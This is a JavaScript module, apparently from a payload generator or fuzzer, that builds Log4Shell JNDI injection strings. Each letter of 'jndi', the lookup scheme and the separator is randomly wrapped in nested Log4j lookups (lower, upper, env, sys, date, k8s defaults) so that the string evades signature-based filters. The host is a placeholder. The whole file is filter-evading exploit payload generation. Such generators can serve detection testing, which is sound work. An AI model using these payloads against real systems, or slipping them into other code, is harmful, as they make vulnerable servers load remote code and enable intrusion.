/** `${jndi:…}` with each of its letters behind a lookup that gives it. */
import { lettersOf } from './grammar.mjs'

const WRAPS = [
  (c) => `\${lower:${c}}`,
  (c) => `\${upper:${c.toUpperCase()}}`,
  (c) => `\${::-${c}}`,
  (c, r) => `\${env:${lettersOf(r, 2 + r.below(7))}:-${c}}`,
  (c, r) => `\${sys:${lettersOf(r, 2 + r.below(4))}:-${c}}`,
  (c, r) => `\${${lettersOf(r, 1 + r.below(4))}:${lettersOf(r, 1 + r.below(4))}:-${c}}`,
  (c) => `\${date:'${c}'}`,
  (c, r) => `\${main:\\${lettersOf(r, 2)}:-${c}}`,
  (c, r) => `\${k8s:k${r.below(9)}:-${c}}`,
  (c, r) => `\${\${::-${c}}:-${lettersOf(r, 1)}}`,
  (c) => `\${lower:\${upper:${c}}}`,
]

/** Letters of `word`, a share of them behind lookups. */
function spelt(word, share, r) {
  return [...word].map((c) => (r.next() < share ? WRAPS[r.below(WRAPS.length)](c, r) : c)).join('')
}

export function nestedLookup(r) {
  const share = 0.3 + 0.7 * r.next()
  const scheme = ['ldap', 'ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nis', 'http'][r.below(9)]
  const slashes = ['://', '://', ':/', ':', spelt('://', 0.3, r)][r.below(5)]
  return `\${${spelt('jndi', share, r)}${r.next() < 0.3 ? spelt(':', 1, r) : ':'}${spelt(scheme, share, r)}${slashes}§host§/§rnd§}`
}
